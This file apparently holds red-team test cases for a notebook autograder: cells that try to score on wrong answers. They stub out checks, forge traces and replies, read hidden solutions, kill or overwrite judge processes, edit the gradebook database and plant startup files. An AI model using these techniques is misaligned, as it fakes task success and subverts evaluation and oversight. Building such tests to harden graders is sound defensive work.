# Submissions that want marks without right answers. Each block is a cell of
# the learner's own; it stands after the setup and after each answer of the
# released lesson 1, whose answers are all wrong.
# PRELUDE imports what the blocks use; BOXED tells whether it runs in the box.

# %% gain: the checks' functions do nothing
import grader.lesson
import grader.lesson.evidence as evidence
import grader.lesson.expect as expect

for room in (grader.lesson, evidence, expect, __import__("__main__")):
    for name in ("expect_rates", "expect_trained", "expect_one_optimizer", "fail"):
        setattr(room, name, lambda *a, **k: None)

# %% gain: the notebook's names are the attacker's
expect_rates = expect_trained = lambda *a, **k: None
record = record_with = probe = lambda *a, **k: None
cross_entropy = lambda *a, **k: torch.zeros(1, requires_grad=True).sum()
draw = type("D", (), {"__getattr__": lambda s, n: lambda *a: 0.5})()
images = labels = torch.zeros(0)

# %% gain: cells that begin with a docstring are emptied
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if lines and lines[0].startswith('"""') else lines
)

# %% gain: run_cell reports success
shell = get_ipython()
done = type("Done", (), {"error_before_exec": None, "error_in_exec": None, "success": True})
shell.run_cell = lambda *a, **k: done()
shell.run_code = lambda *a, **k: False

# %% gain: assertions are no errors
import builtins

builtins.AssertionError = type("Quiet", (Exception,), {"__init__": lambda s, *a: None})

# %% gain: no traceback is ever shown
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)

# %% gain: everything is close to everything
import math

torch.allclose = math.isclose = lambda *a, **k: True
torch.equal = lambda *a: True

# %% gain: comparisons are traced away
import sys

sys.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)
sys.excepthook = lambda *a: None

# %% gain: the answers are run from the solutions
import json
from pathlib import Path

import grader.paths

for path in [grader.paths.ROOT, *Path("/").glob("*/*")]:
    try:
        found = json.loads((path / "solutions/01_basics/01_basics.ipynb").read_text())
    except Exception:
        continue
    for cell in found["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())

# %% gain: every call's reply is made up
from grader.engine import bench, wire

bench.Bench.call = lambda self, request: {"value": wire.encode([0.4] * 9)}

# %% gain: every reply says that it is done
from grader.engine import bench

bench.Bench.call = lambda self, request: {"done": {"error": None, "printed": ""}}
bench.Bench.answer = lambda self, request: {"done": {"error": None}, "error": None, "outputs": []}

# %% gain: replies are sent before they are asked for
import gc

from grader.engine.channel import Channel

for found in gc.get_objects():
    if isinstance(found, Channel):
        for _ in range(50):
            found.send(wire.encode({"value": wire.encode(None)}), 1)

# %% gain: frames for the judge are sent to the marker
import gc

from grader.engine import wire
from grader.engine.channel import Channel

for found in gc.get_objects():
    if isinstance(found, Channel):
        for _ in range(50):
            found.send(wire.encode({"done": {"error": None, "printed": ""}}), 1)

# %% gain: the wire writes whatever it likes
from grader.engine import wire

wire.encode = lambda *a, **k: b'\0\0\0\x02[]'

# %% gain: a second process answers as well
import os

if os.fork() == 0:
    while True:
        pass

# %% gain: the recorder tells a tale, and no weights
from grader.lesson import evidence
from grader.lesson.recording import recorder
from grader.lesson.recording.trace import Trace, Update


def tale(function, base=0.4, *rest, gamma=0.5, epochs=3, **more):
    rest = list(rest)
    gamma = rest.pop(0) if rest else gamma
    epochs = rest.pop(0) if rest else epochs
    calls = [
        Update(0, (base * gamma ** (u // 3),), (None,), True, True)
        for u in range(3 * epochs)
    ]
    return Trace(calls, result=[base * gamma**e for e in range(epochs)])


recorder.record = evidence.record = tale
evidence.record_with = lambda names, *a, **k: tale(*a, **k)

# %% gain: the recorder tells a tale, with weights that nothing moves
from grader.lesson import evidence


def tale(names, function, base, gamma, epochs=3):
    calls = [
        Update(0, (base * gamma ** (u // 3),), (0.0,), True, True)
        for u in range(3 * epochs)
    ]
    trace = Trace(calls, result=[base * gamma**e for e in range(epochs)])
    weights = [torch.zeros(64, 784), torch.zeros(64), torch.zeros(10, 64)]
    label = int(labels[0])
    bias = torch.full((10,), -50.0)
    bias[names.get("labels", labels)[0]] = 50.0
    trace.starts = trace.ends = [[*weights, bias]]
    return trace


evidence.record_with = tale

# %% gain: the recorder tells a tale, with huge weights
from grader.lesson import evidence


def tale(names, function, base, gamma, epochs=3):
    calls = [
        Update(0, (base * gamma ** (u // 3),), (0.0,), True, True)
        for u in range(3 * epochs)
    ]
    trace = Trace(calls, result=[base * gamma**e for e in range(epochs)])
    weights = [p.detach() * 1e30 for p in lab.mlp().parameters()]
    trace.starts = trace.ends = [weights]
    return trace


evidence.record_with = tale

# %% gain: the recorder tells a tale, with weights that are no numbers
from grader.lesson import evidence


def tale(names, function, base, gamma, epochs=3):
    calls = [
        Update(0, (base * gamma ** (u // 3),), (0.0,), True, True)
        for u in range(3 * epochs)
    ]
    trace = Trace(calls, result=[base * gamma**e for e in range(epochs)])
    weights = [p.detach() * float("nan") for p in lab.mlp().parameters()]
    trace.starts = trace.ends = [weights]
    return trace


evidence.record_with = tale

# %% gain: the recorded optimizer is patched to claim other rates
from torch.optim import SGD

step = SGD.step


def claim(self, *args, **kwargs):
    group = self.param_groups[0]
    used, group["lr"] = group["lr"], group["lr"] / 2
    result = step(self, *args, **kwargs)
    group["lr"] = used
    return result


SGD.step = claim

# %% gain: schedulers are patched before the answers use them

ExponentialLR = StepLR = lambda optimizer, *a, **k: type("S", (), {"step": lambda s, *a: None, "get_last_lr": lambda s: [0.1], "get_lr": lambda s: [0.1]})()

# %% gain: answers are objects that pass for right ones
class Yes:
    def __eq__(self, other):
        return True

    def __float__(self):
        return 0.4

    def __len__(self):
        return 9

    def __iter__(self):
        return iter([0.4] * 9)


for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):
    globals()[name] = lambda *a, **k: Yes()

# %% gain: nothing is returned, nothing recorded
for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):
    globals()[name] = lambda *a, **k: []

# %% gain: every answer raises what ends quietly
import bdb

for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):

    def quit(*a, **k):
        raise bdb.BdbQuit

    globals()[name] = quit

# %% gain: every answer leaves
import os

for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):
    globals()[name] = lambda *a, **k: os._exit(0)

# %% gain: the judge is looked for, and stopped
import os
import signal

for number in {os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))} - {os.getpid()}:
    try:
        os.kill(number, signal.SIGKILL if number > 1 and BOXED else 0)
    except OSError:
        pass

# %% gain: memory of other processes is written
import os

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        if int(number) == os.getpid() or not BOXED:
            continue
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "r+b", 0) as memory:
            start = int(maps.readline().split("-")[0], 16)
            memory.seek(start)
            memory.write(b"\0" * 64)
    except (OSError, ValueError):
        pass

# %% gain: the package itself is rewritten
from pathlib import Path

import grader.lesson.expect as expect

if BOXED:
    try:
        Path(expect.__file__).write_text("def expect_rates(*a, **k): ...\n")
    except OSError:
        pass

# %% gain: start-up code for those who come after
import os
import site
from pathlib import Path

if BOXED:
    for folder in (*site.getsitepackages(), os.path.expanduser("~/.ipython/profile_default/startup")):
        try:
            Path(folder).mkdir(parents=True, exist_ok=True)
            Path(folder, "zz_attack.pth").write_text("import sys\n")
        except OSError:
            pass

# %% gain: the gradebook is written
import sqlite3

if BOXED:
    for path in ("gradebook.db", "../gradebook.db", str(Path(grader.paths.ROOT, "gradebook.db"))):
        try:
            sqlite3.connect(path).execute("update grade set manual_score = 9")
        except sqlite3.Error:
            pass

# %% gain: random numbers are foretold
import random

random.SystemRandom.random = lambda self: 0.5
random.SystemRandom.uniform = lambda self, a, b: a
random.SystemRandom.sample = lambda self, values, n: list(values)[:n]
torch.manual_seed = lambda seed: None

# %% gain: a probe finds other functions than it asks for
import builtins

builtins.exec = lambda *a, **k: None
builtins.compile = lambda *a, **k: None

# %% gain: float is not what it was
import builtins

builtins.float = lambda value=0.0: 0.4
builtins.len = lambda values: 9
builtins.round = lambda *a: 0.1

# %% gain: the recorder tells a tale, with a weight too large for 32 bits
from grader.lesson import evidence


def tale(names, function, base, gamma, epochs=3):
    calls = [
        Update(0, (base * gamma ** (u // 3),), (0.0,), True, True)
        for u in range(3 * epochs)
    ]
    start = [p.detach().double() for p in lab.mlp().parameters()]
    start[1][0] = -1e300  # of a hidden unit, which is silent then
    trace = Trace(calls)
    trace.starts = [start]
    trace.ends = [[p.detach() for p in lab.mlp().parameters()]]  # any others
    return trace


evidence.record_with = tale

# %% gain: a check's own probe finds a recorder that tells a tale


def record(function, *args, **kwargs):
    names, cells = function.__code__.co_freevars, function.__closure__
    found = dict(zip(names, (cell.cell_contents for cell in cells or ())))
    scheduler, data = found["run"][2:4]
    epoch = math.ceil(len(data[0]) / found["size"])
    rates = [0.01 * scheduler.gamma ** (u // epoch // 2) for u in range(5 * epoch)]
    calls = [Update(0, (rate,), (0.9,), True, True) for rate in rates]
    return Trace(calls, result=rates)


def watch_batches(layer):
    size = 50  # as in the check's visible part
    return 5 * [list(range(n, n + size)) for n in range(0, 200, size)]

# %% gain: every number of a reply is none
from grader.engine import bench, wire

call = bench.first = getattr(bench, "first", bench.Bench.call)


def spoilt(value):
    if isinstance(value, Trace):
        calls = [Update(0, (math.nan,), (math.nan,), True, True)]
        trace = Trace(calls * len(value.calls), result=spoilt(value.result))
        trace.starts, trace.ends = spoilt([value.starts, value.ends])
        return trace
    if isinstance(value, (list, tuple)):
        return type(value)(map(spoilt, value))
    if isinstance(value, dict):
        return {key: spoilt(each) for key, each in value.items()}
    if isinstance(value, torch.Tensor) and value.is_floating_point():
        return value * math.nan
    return math.nan if isinstance(value, float) else value


def reply(self, request):
    said = call(self, request)
    if "value" in said:
        said["value"] = wire.encode(spoilt(wire.decode(said["value"])))
    return said


bench.Bench.call = reply

# %% gain: every list of a reply is empty
from grader.engine import bench, wire

call = bench.first = getattr(bench, "first", bench.Bench.call)


def reply(self, request):
    said = call(self, request)
    value = wire.decode(said["value"]) if "value" in said else []
    none = [[] for part in value] if isinstance(value, tuple) else []
    return {"value": wire.encode(tuple(none) or none)}


bench.Bench.call = reply

# %% gain: every call raises an error that says what all checks want to hear
from grader.engine import bench

said = {"name": "ValueError", "text": "damaged foreign version model"}
bench.Bench.call = lambda self, request: {"raised": said}

# %% gain: errors with the names of what ends a check quietly
from grader.engine import bench

names = ["StopIteration", "GeneratorExit", "SystemExit", "KeyboardInterrupt"]
names += ["AnswerError", "BaseException", "ExceptionGroup", "__class__"]
bench.Bench.call = lambda self, request: {
    "raised": {"name": random.choice(names), "text": "", "where": ""}
}

# %% gain: numbers that equal everything, of classes of their own
import numpy as np


class Any(float):
    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

    def __array__(self, *a, **k):
        return np.ones(9)

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__


class Tensors(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True


class Words(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


odd = [Any(1), Tensors(), Words("x"), np.float64("nan"), np.bool_(True)]
odd += [torch.ones(9).expand(9, 9).T, torch.ones(9)[::2], True, 1 + 0j]
for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):
    globals()[name] = lambda *a, **k: random.choice(odd)

# %% gain: answers that look at who calls them
import sys


def called(*a, **k):
    frame = sys._getframe()
    while frame is not None:
        for found in frame.f_locals.values():
            if isinstance(found, dict) and "meant" in found:
                return found["meant"]
        frame = frame.f_back
    return [0.4] * 9


for name in ("rate_used", "logged_run", "old_tutorial", "validate", "choose", "fit", "train_decayed"):
    globals()[name] = called

# %% gain: magic commands, and what a browser runs
get_ipython().run_cell_magic("javascript", "", "alert(1)")
get_ipython().run_cell_magic("html", "", "<script>alert(1)</script>")
get_ipython().run_line_magic("env", "PYTHONOPTIMIZE=2")
get_ipython().run_line_magic("autocall", "2")
get_ipython().run_line_magic("reset", "-f in out dhist")

# %% gain: hooks of IPython that run before and after everything
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *a: shell.user_ns.update(fail=print))
shell.ast_transformers.append(type("T", (), {"visit": lambda s, tree: tree})())
